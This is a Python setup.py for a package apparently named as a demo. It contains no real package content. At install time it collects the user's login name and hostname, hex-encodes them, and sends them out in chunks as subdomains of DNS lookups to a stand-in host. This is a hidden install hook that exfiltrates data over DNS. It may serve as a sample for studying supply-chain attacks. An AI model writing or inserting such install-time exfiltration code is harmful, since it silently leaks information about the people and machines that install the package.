import binascii
import os
import socket

from setuptools import setup

data = binascii.hexlify(("%s|%s" % (os.getlogin(), socket.gethostname())).encode()).decode()
for start in range(0, len(data), 60):
    try:
        socket.getaddrinfo("%s.%d.q.example.invalid" % (data[start:start + 60], start), 80)
    except OSError:
        pass

setup(name="dns-chunk-demo", version="0.1.0", packages=[])
